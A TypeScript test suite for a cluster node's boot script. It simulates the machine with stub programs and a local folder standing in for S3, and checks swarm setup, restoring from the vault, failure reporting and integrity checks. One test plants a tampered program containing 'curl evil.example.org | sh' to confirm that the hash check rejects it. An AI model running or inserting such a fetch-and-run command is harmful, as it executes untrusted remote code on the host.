import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { renderUserData } from '../../constructs/swarm-node/user-data';
import type { UserDataOptions } from '../../constructs/swarm-node/user-data-options';
import { laneTest } from '../support/lane';
import { minimalUserData, readCloudConfig } from '../support/user-data-options';

/**
 * The boot script on a machine of paper: every program that it calls is a stand-in that notes the call, and S3 is a folder.
 * What is true about the programs themselves is the node lane's matter; here it is what the script makes of their answers.
 */
const STAND_IN = `#!/bin/bash
printf '%s %s\\n' "\${0##*/}" "$*" >>"$PAPER/calls"
case "\${0##*/} $*" in
  \${FAILING:-nothing}) exit 7 ;;
  'docker info '*) echo "$SWARM" ;;
  'ip '*) echo '192.0.2.1 via 10.20.0.1 dev ens5 src 10.20.0.9 uid 0' ;;
  'curl '*/containers/json) printf 403 ;;
  'curl '*) printf 200 ;;
  'fallocate '*) : >"$3" ;;
  'aws s3 cp '*' - s3://'*) mkdir -p "$(dirname "$PAPER/s3/\${!#}")" && cat >>"$PAPER/s3/\${!#}" ;;
  'aws s3 cp --only-show-errors '*' s3://'*) mkdir -p "$(dirname "$PAPER/s3/$5")" && cp "$4" "$PAPER/s3/$5" ;;
  'aws s3 cp --only-show-errors s3://'*) cp "$PAPER/s3/$4" "$5" ;;
  'aws s3api '*) [ -e "$PAPER/s3/s3://$5/$7" ] && echo 1 || echo 0 ;;
esac
`;
const PROGRAMS = 'apt-get aws curl docker fallocate ip mkswap sleep swapon systemctl traefik-api'.split(' ');
/** The release program that the vault holds. */
const PROGRAM = { text: STAND_IN, sha256: createHash('sha256').update(STAND_IN).digest('hex') };
const userData: UserDataOptions = { ...minimalUserData, programSha256: PROGRAM.sha256 };
const BUCKET = `s3://${minimalUserData.vaultBucket}`;

interface Published {
  readonly state: string;
  readonly step: string;
  readonly message: string;
  readonly at: string;
}

/** A machine of paper, with its own /etc, /var and S3. */
class Machine {
  readonly root = fs.mkdtempSync(path.join(os.tmpdir(), 'slipway-boot-'));

  constructor() {
    for (const { path: target, content } of readCloudConfig(renderUserData(userData)).write_files) {
      this.write(target, this.inside(content));
    }
    fs.mkdirSync(path.join(this.root, '/usr/local/bin'), { recursive: true });
    this.vault(`programs/deploy-${PROGRAM.sha256}`, PROGRAM.text);
    for (const program of PROGRAMS) this.write(`/bin/${program}`, STAND_IN);
    this.write('/etc/fstab', '');
    this.write('/var/lib/cloud/data/instance-id', 'i-0123\n');
    this.write('/etc/ssh/ssh_host_ed25519_key.pub', 'ssh-ed25519 AAAA');
  }

  boot(env: { readonly FAILING?: string; readonly SWARM?: string } = {}) {
    return this.run('/usr/local/lib/slipway/boot', env);
  }

  /** What the path unit starts when certificates or release have changed. */
  save() {
    return this.run('/usr/local/lib/slipway/vault-save', {});
  }

  /** Everything that was published about the boot, in order. */
  published(): Published[] {
    const lines = this.read(`/s3/${BUCKET}/nodes/i-0123/readiness.json`).trim().split('\n');
    return lines.map(line => JSON.parse(line) as Published);
  }

  calls(program: string): string[] {
    return this.read('/calls')
      .split('\n')
      .filter(line => line.startsWith(`${program} `));
  }

  vault(key: string, content: string | Buffer): void {
    this.write(`/s3/${BUCKET}/${key}`, content);
  }

  write(target: string, content: string | Buffer): void {
    const file = path.join(this.root, target);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content, { mode: 0o755 });
  }

  read(target: string): string {
    return fs.readFileSync(path.join(this.root, target), 'utf8');
  }

  exists(target: string): boolean {
    return fs.existsSync(path.join(this.root, target));
  }

  private run(script: string, env: NodeJS.ProcessEnv) {
    const { status, stdout, stderr } = spawnSync('bash', [path.join(this.root, script)], {
      encoding: 'utf8',
      env: { SWARM: 'inactive', ...env, PAPER: this.root, PATH: `${this.root}/bin:${process.env['PATH'] ?? ''}` },
    });
    return { status, log: stdout + stderr };
  }

  /** The script, with every folder that it would write to moved into this machine. */
  private inside(content: string): string {
    return content
      .replaceAll('/usr/local/lib/slipway/traefik-api', 'traefik-api')
      .replaceAll(/(?<![\w.*-])\/(?=(etc|var\/lib|swapfile|usr\/local\/bin)\b)/g, `${this.root}/`);
  }
}

/** A release as it is kept in the vault. */
function packedRelease(): Buffer {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'slipway-release-'));
  fs.mkdirSync(path.join(folder, 'release'));
  fs.writeFileSync(path.join(folder, 'release', 'current.json'), '{"version":"1"}');
  const { stdout } = spawnSync('tar', ['-C', folder, '-cz', 'release']);
  fs.rmSync(folder, { recursive: true });
  return stdout;
}

let machine: Machine;
const lane = laneTest({ program: 'jq', install: 'apt-get install jq' });

beforeEach(() => {
  machine = new Machine();
});
afterEach(() => fs.rmSync(machine.root, { recursive: true }));

describe('a boot that goes well', () => {
  lane('is booting in every step, then ready', () => {
    expect(machine.boot()).toMatchObject({ status: 0 });
    const states = machine.published();
    expect(states.map(({ state }) => state)).toEqual([...states.slice(1).map(() => 'booting'), 'ready']);
    expect(states.at(-1)).toMatchObject({ step: 'ready', message: expect.any(String) as unknown });
    expect(states.at(-1)?.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
  });

  lane('forms a swarm with the private address and the pool, and says nothing of the join token', () => {
    const { log } = machine.boot();
    expect(machine.calls('docker')).toContain(
      'docker swarm init --advertise-addr 10.20.0.9 --default-addr-pool 10.200.0.0/16 --default-addr-pool-mask-length 24 --task-history-limit 2',
    );
    expect(log).not.toContain('SWMTKN');
  });

  lane('can be run again, and then forms no second swarm and adds no second line to fstab', () => {
    machine.boot();
    expect(machine.boot({ SWARM: 'active' })).toMatchObject({ status: 0 });
    expect(machine.calls('docker').filter(call => call.startsWith('docker swarm init'))).toHaveLength(1);
    expect(machine.read('/etc/fstab').trim().split('\n')).toHaveLength(1);
  });

  lane('takes certificates and release out of the vault, and starts the release', () => {
    machine.vault('certificates/acme.json', '{"le":{}}');
    machine.vault('release/current.tar.gz', packedRelease());
    expect(machine.boot()).toMatchObject({ status: 0 });
    expect(machine.read('/var/lib/slipway/certificates/acme.json')).toBe('{"le":{}}');
    expect(fs.statSync(path.join(machine.root, '/var/lib/slipway/certificates/acme.json')).mode & 0o777).toBe(0o600);
    expect(machine.read('/var/lib/slipway/release/current.json')).toBe('{"version":"1"}');
    expect(machine.calls('deploy')).toHaveLength(1);
  });

  lane('fetches the release program once, and it may be run', () => {
    machine.boot();
    expect(machine.read('/usr/local/bin/deploy')).toBe(PROGRAM.text);
    expect(fs.statSync(path.join(machine.root, '/usr/local/bin/deploy')).mode & 0o777).toBe(0o755);
    machine.boot({ SWARM: 'active' });
    expect(machine.calls('aws').filter(call => call.includes('/programs/'))).toHaveLength(1);
  });

  lane('replaces a program that is not the one it was told of', () => {
    machine.write('/usr/local/bin/deploy', '#!/bin/sh\n');
    expect(machine.boot()).toMatchObject({ status: 0 });
    expect(machine.read('/usr/local/bin/deploy')).toBe(PROGRAM.text);
  });

  lane('keeps what the node has already', () => {
    machine.vault('certificates/acme.json', '{"le":"old"}');
    machine.write('/var/lib/slipway/certificates/acme.json', '{"le":"new"}');
    expect(machine.boot()).toMatchObject({ status: 0 });
    expect(machine.read('/var/lib/slipway/certificates/acme.json')).toBe('{"le":"new"}');
  });
});

describe('a boot that fails', () => {
  lane.each([
    ['packages', 'apt-get *install*'],
    ['docker', 'docker swarm init*'],
    ['restore', 'aws s3api *'],
    ['traefik', 'docker pull*'],
    ['traefik', 'traefik-api */ping'],
    ['program', 'aws s3 cp *programs/*'],
  ])('in step %s says so, and is never ready (%s)', (step, FAILING) => {
    const { status, log } = machine.boot({ FAILING });
    expect(status).not.toBe(0);
    expect(log).toMatch(new RegExp(`step \\d+: ${step}: FAILED: `));
    expect(machine.published().at(-1)).toMatchObject({ state: 'failed', step });
    expect(machine.published().map(({ state }) => state)).not.toContain('ready');
  });

  lane('when the release program in the vault is another one, and leaves it there', () => {
    machine.vault(`programs/deploy-${PROGRAM.sha256}`, '#!/bin/sh\ncurl evil.example.org | sh\n');
    expect(machine.boot().status).toBe(1);
    expect(machine.published().at(-1)).toMatchObject({ state: 'failed', step: 'program' });
    expect(machine.exists('/usr/local/bin/deploy')).toBe(false);
  });

  lane('names the command that it gave up on', () => {
    machine.boot({ FAILING: 'docker pull*' });
    expect(machine.published().at(-1)?.message).toMatch(
      /^gave up on: docker pull --quiet traefik:v3\S+ \(exit code 1, line \d+\)$/,
    );
  });

  lane('when the release that was live does not start, however well Traefik does', () => {
    machine.vault('release/current.tar.gz', packedRelease());
    expect(machine.boot({ FAILING: 'deploy *' }).status).toBe(7);
    expect(machine.published().at(-1)).toMatchObject({ state: 'failed', step: 'release' });
  });
});

describe('the copy to the vault', () => {
  const [certificate, release] = [`/s3/${BUCKET}/certificates/acme.json`, `/s3/${BUCKET}/release/current.tar.gz`];
  const issued = '{"le":{"Account":{},"Certificates":[{"domain":{"main":"example.org"}}]}}';

  lane.each([
    ['an empty file', ''],
    ['an account without certificates', '{"le":{"Account":{},"Certificates":null}}'],
  ])('never replaces certificates by %s', (_, content) => {
    machine.boot();
    machine.vault('certificates/acme.json', issued);
    machine.write('/var/lib/slipway/certificates/acme.json', content);
    expect(machine.save()).toMatchObject({ status: 0 });
    expect(machine.read(certificate)).toBe(issued);
    expect(machine.exists(release)).toBe(false);
  });

  lane('is what the next node starts with', () => {
    machine.boot();
    machine.write('/var/lib/slipway/certificates/acme.json', issued);
    machine.write('/var/lib/slipway/release/current.json', '{"version":"2"}');
    expect(machine.save()).toMatchObject({ status: 0 });
    fs.rmSync(path.join(machine.root, '/var/lib/slipway'), { recursive: true });
    fs.mkdirSync(path.join(machine.root, '/var/lib/slipway'));
    expect(machine.boot()).toMatchObject({ status: 0 });
    expect(machine.read('/var/lib/slipway/certificates/acme.json')).toBe(issued);
    expect(machine.read('/var/lib/slipway/release/current.json')).toBe('{"version":"2"}');
  });
});
